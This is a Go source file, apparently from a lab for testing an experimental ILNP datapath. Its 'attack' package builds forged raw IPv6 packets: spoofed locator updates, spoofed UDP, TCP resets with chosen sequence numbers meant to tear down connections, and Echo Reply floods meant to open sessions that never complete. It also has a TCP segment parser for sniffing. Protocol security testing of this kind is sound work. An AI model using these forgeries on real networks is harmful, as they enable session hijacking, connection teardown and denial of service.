package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"

	"ilnp/internal/wire"
)

// Forged packets, whole IPv6 packets for an IPPROTO_RAW socket. A zero nonce means no
// Destination Options header at all.

// ilnpPacket wraps l4 of protocol proto from src to dst, behind the nonce option unless n is zero.
func ilnpPacket(src, dst wire.ILV, n wire.Nonce, proto uint8, l4 []byte) []byte {
	if n.IsZero() {
		b := wire.IPv6Header{PayloadLen: uint16(len(l4)), NextHeader: proto, HopLimit: 64,
			Src: src.Addr(), Dst: dst.Addr()}.Append(nil)
		return append(b, l4...)
	}
	return wire.AppendILNPPacket(nil, src, dst, n, proto, l4)
}

// sessionView is the address an ILNP session's transport checksum covers (RFC 6744 s.3: the
// locator counts as zero), so a forged segment is one the victim's transport would take if
// the datapath let it through.
func sessionView(v wire.ILV) netip.Addr { return wire.ILV{NID: v.NID}.Addr() }

// checksumAddrs: the addresses a forged segment's checksum covers. Without a nonce it is plain
// IPv6 (the datapath passes it as it is, or should drop it), so the real ones the kernel checks.
func checksumAddrs(src, dst wire.ILV, n wire.Nonce) (netip.Addr, netip.Addr) {
	if n.IsZero() {
		return src.Addr(), dst.Addr()
	}
	return sessionView(src), sessionView(dst)
}

// LocatorUpdate is an LU (or LU-ACK, by op) from src to dst announcing locs.
func LocatorUpdate(src, dst wire.ILV, op wire.Operation, locs []wire.L64, n wire.Nonce) ([]byte, error) {
	lu := wire.LocatorUpdate{Op: op}
	for _, l := range locs {
		lu.Locators = append(lu.Locators, wire.LocatorEntry{Locator: l, Lifetime: 600})
	}
	msg, err := lu.Marshal(src.Addr(), dst.Addr())
	if err != nil {
		return nil, fmt.Errorf("forge LU %s -> %s: %w", src.Addr(), dst.Addr(), err)
	}
	return ilnpPacket(src, dst, n, wire.ProtoICMPv6, msg), nil
}

// UDP is a datagram from src:sport to dst:dport.
func UDP(src, dst wire.ILV, n wire.Nonce, sport, dport uint16, payload []byte) []byte {
	l4 := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(l4[0:], sport)
	binary.BigEndian.PutUint16(l4[2:], dport)
	binary.BigEndian.PutUint16(l4[4:], uint16(8+len(payload)))
	l4 = append(l4, payload...)
	cs, cd := checksumAddrs(src, dst, n)
	c := wire.PseudoHeaderChecksum(cs, cd, wire.ProtoUDP, l4)
	if c == 0 {
		c = 0xffff
	}
	binary.BigEndian.PutUint16(l4[6:], c)
	return ilnpPacket(src, dst, n, wire.ProtoUDP, l4)
}

// TCP flag bits.
const (
	flagRST = 0x04
	flagACK = 0x10
)

// RST is a TCP reset from src:sport to dst:dport with sequence number seq (RFC 5961: a reset
// whose sequence number is exactly the receiver's next expected one closes the connection).
func RST(src, dst wire.ILV, n wire.Nonce, sport, dport uint16, seq uint32) []byte {
	l4 := make([]byte, 20)
	binary.BigEndian.PutUint16(l4[0:], sport)
	binary.BigEndian.PutUint16(l4[2:], dport)
	binary.BigEndian.PutUint32(l4[4:], seq)
	l4[12] = 5 << 4
	l4[13] = flagRST
	cs, cd := checksumAddrs(src, dst, n)
	binary.BigEndian.PutUint16(l4[16:], wire.PseudoHeaderChecksum(cs, cd, wire.ProtoTCP, l4))
	return ilnpPacket(src, dst, n, wire.ProtoTCP, l4)
}

// EchoReply is an ICMPv6 Echo Reply, a packet no host answers: a flood of them from made-up
// identifiers opens sessions that never prove themselves.
func EchoReply(src, dst wire.ILV, n wire.Nonce, id, seq uint16) []byte {
	msg := []byte{129, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(msg[4:], id)
	binary.BigEndian.PutUint16(msg[6:], seq)
	binary.BigEndian.PutUint16(msg[2:], wire.PseudoHeaderChecksum(src.Addr(), dst.Addr(), wire.ProtoICMPv6, msg))
	return ilnpPacket(src, dst, n, wire.ProtoICMPv6, msg)
}

// EchoRequest is an ICMPv6 Echo Request, which every host's kernel answers.
func EchoRequest(src, dst wire.ILV, n wire.Nonce, id, seq uint16) []byte {
	msg := []byte{128, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(msg[4:], id)
	binary.BigEndian.PutUint16(msg[6:], seq)
	binary.BigEndian.PutUint16(msg[2:], wire.PseudoHeaderChecksum(src.Addr(), dst.Addr(), wire.ProtoICMPv6, msg))
	return ilnpPacket(src, dst, n, wire.ProtoICMPv6, msg)
}

// Segment is what the sniffer needs of a TCP segment.
type Segment struct {
	Src, Dst     netip.Addr
	SPort, DPort uint16
	Seq, Ack     uint32
	Flags        byte
}

var errNotTCP = errors.New("not a TCP segment")

// ParseSegment reads the TCP header of an IPv6 packet, skipping Hop-by-Hop and Destination
// Options headers (the nonce option among them). Anything else is errNotTCP or an error.
func ParseSegment(pkt []byte) (Segment, error) {
	h, err := wire.ParseIPv6Header(pkt)
	if err != nil {
		return Segment{}, err
	}
	next, off := h.NextHeader, wire.IPv6HeaderLen
	for i := 0; i < 4 && (next == wire.ProtoHopByHop || next == wire.ProtoDestOpts); i++ {
		if len(pkt) < off+2 {
			return Segment{}, fmt.Errorf("extension header at %d: truncated", off)
		}
		next, off = pkt[off], off+8*(int(pkt[off+1])+1)
	}
	if next != wire.ProtoTCP {
		return Segment{}, errNotTCP
	}
	if len(pkt) < off+20 {
		return Segment{}, fmt.Errorf("TCP header at %d: truncated (%d bytes)", off, len(pkt))
	}
	t := pkt[off:]
	return Segment{Src: h.Src, Dst: h.Dst, SPort: binary.BigEndian.Uint16(t[0:]), DPort: binary.BigEndian.Uint16(t[2:]),
		Seq: binary.BigEndian.Uint32(t[4:]), Ack: binary.BigEndian.Uint32(t[8:]), Flags: t[13]}, nil
}

// Acknowledge is the LU-ACK of lu from src to dst: the same locator list, as the RFC 6743 s.2
// receiver echoes it (lab/scalesess's correspondents answer a moving node's LUs with it).
func Acknowledge(src, dst wire.ILV, lu wire.LocatorUpdate, n wire.Nonce) ([]byte, error) {
	msg, err := lu.Ack().Marshal(src.Addr(), dst.Addr())
	if err != nil {
		return nil, fmt.Errorf("forge LU-ACK %s -> %s: %w", src.Addr(), dst.Addr(), err)
	}
	return ilnpPacket(src, dst, n, wire.ProtoICMPv6, msg), nil
}

// EchoAnswer is the Echo Reply to the ICMPv6 Echo Request request (its whole message: type,
// code, checksum, identifier, sequence number and data) from dst, sent back from src: a
// locator challenge or path probe answered the way a host's kernel would.
func EchoAnswer(src, dst wire.ILV, n wire.Nonce, request []byte) ([]byte, error) {
	if len(request) < 8 || request[0] != 128 {
		return nil, fmt.Errorf("echo answer %s -> %s: not an Echo Request", src.Addr(), dst.Addr())
	}
	msg := append([]byte{129, 0, 0, 0}, request[4:]...)
	binary.BigEndian.PutUint16(msg[2:], wire.PseudoHeaderChecksum(src.Addr(), dst.Addr(), wire.ProtoICMPv6, msg))
	return ilnpPacket(src, dst, n, wire.ProtoICMPv6, msg), nil
}
